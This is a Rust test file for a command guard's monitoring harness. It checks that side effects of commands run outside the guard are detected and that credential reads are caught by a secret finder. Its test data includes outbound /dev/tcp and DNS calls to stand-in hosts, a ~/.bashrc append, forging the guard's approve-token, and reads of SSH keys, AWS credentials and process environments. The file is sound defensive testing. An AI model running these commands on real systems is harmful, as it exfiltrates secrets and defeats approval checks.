//! The harness proves that it can see: effects that are made directly, without the guard, are noticed, and
//! reading is not.

use crate::world::{Manner, World};

/// An action, and a word that must be in what was noticed.
const DONE: &[(&str, &str)] = &[
    ("echo x > new-file", "file made: home/project/new-file"),
    ("touch notes.txt", "changed"),
    ("touch -r notes.txt -d '2026-01-01' README.md", "mtime"),
    ("chmod u+x notes.txt && chmod u-x notes.txt", "ctime"),
    ("chmod 640 notes.txt", "mode"),
    ("printf O | dd of=notes.txt conv=notrunc status=none; touch -r README.md notes.txt", "content"),
    ("rm victim/keep.txt", "file gone: home/project/victim/keep.txt"),
    ("mv victim/keep.txt victim/kept.txt", "file made"),
    ("ln -s /etc/passwd link", "link made"),
    ("ln notes.txt hard", "links"),
    ("mkfifo queue", "pipe made"),
    ("mkdir new", "folder made"),
    ("mkdir new && rmdir new", "folder changed"),
    ("python3 -c 'import os; os.setxattr(\"notes.txt\", \"user.x\", b\"1\")'", "attributes"),
    ("python3 -c 'import os; os.utime(\"notes.txt\", (1, 1))'", "mtime"),
    ("python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"own.sock\")'", "socket made"),
    ("echo x >> ~/.bashrc", "home/.bashrc"),
    ("echo x > /tmp/left", "file made: tmp/left"),
    ("echo x >> /tmp/of-the-user.txt", "tmp/of-the-user.txt"),
    ("echo x > /var/tmp/left", "vartmp/left"),
    ("echo x > /dev/shm/left", "shm/left"),
    ("mkdir $XDG_RUNTIME_DIR/left", "folder made: runuser"),
    ("echo > ~/.local/state/guarda/approve-token", "approve-token"),
    ("touch ~/.local/state/guarda/token", "token"),
    ("echo x > /dev/tcp/127.0.0.1/7001", "reached \"tcp\""),
    ("echo x > /dev/tcp/203.0.113.9/7001", "reached \"tcp\""),
    ("echo x > /dev/tcp/203.0.113.9/9999", "packets"),
    ("echo x > /dev/udp/127.0.0.1/7002", "reached \"udp\""),
    ("echo x > /dev/udp/198.51.100.7/4444", "packets"),
    ("getent hosts data.evil.example", "reached \"dns\""),
    (
        "python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"dev.sock\")'",
        "socket in the project",
    ),
    ("python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"\\0effects\")'", "abstract"),
    (
        "python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"/tmp/effects.sock\")'",
        "socket in /tmp",
    ),
    (
        "python3 -c 'import socket; socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b\"x\", \"../log.sock\")'",
        "datagram",
    ),
    (
        "python3 -c 'import os, socket; socket.socket(socket.AF_UNIX).connect(os.environ[\"XDG_RUNTIME_DIR\"] + \"/bus\")'",
        "D-Bus",
    ),
    ("(setsid sleep 321 > /dev/null 2>&1 &)", "process left"),
    ("kill $(pgrep -x sleep)", "process gone"),
    ("kill -STOP $(pgrep -x sleep)", "process changed"),
    ("renice 5 $(pgrep -x sleep)", "process changed"),
    ("prlimit --nofile=9 --pid $(pgrep -x sleep)", "process changed"),
    ("ipcmk -M 4096", "System V"),
    ("echo hello > \"$OTHER\"", "another terminal"),
];

#[test]
fn the_watch_sees_effects_and_nothing_else() {
    let Some(mut world) = World::new(&Manner {
        profile: "workspace",
        sandbox: "confined",
        part: None,
        through: false,
        staged: false,
    }) else {
        return;
    };
    world.reset();
    let quiet = "cat notes.txt; ls -laR ~ > /dev/null; git --no-optional-locks status; ps ax; ip addr; find /etc -xdev -name x 2> /dev/null";
    world.directly(quiet, "project");
    assert_eq!(world.effects(), Vec::<String>::new());
    let mut missed = Vec::new();
    for (text, word) in DONE {
        let text = world.filled(&format!("OTHER=«othertty»; {text}"));
        let output = world.directly(&text, "project");
        let effects = world.effects();
        if !effects.iter().any(|effect| effect.contains(word)) {
            missed.push(format!("{text}\n  said {output:?}, seen {effects:#?}"));
        }
        world.reset();
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
    let finder = world.secrets().finder();
    let own = world.filled("cat «state»/approve-token");
    for (text, name) in [
        ("cat ~/.ssh/id_ed25519", "SSH"),
        ("base64 ~/.netrc", "NETRC"),
        ("rev .env", "DOTENV"),
        ("xxd ~/.aws/credentials", "AWS"),
        (own.as_str(), "guard's approve-token"),
        ("cat /proc/[0-9]*/environ 2>&1 | tr '\\0' '\\n'", "SERVICE_ENV"),
        ("cat /proc/[0-9]*/environ 2>&1 | od -An -c", "OTHER_PROCESS"),
        ("tar cf - ~/.config", "GH"),
    ] {
        let output = world.directly(text, "project");
        assert!(
            finder.find(&output).iter().any(|found| found == name),
            "{text}: {name} is not found in {output}"
        );
    }
}
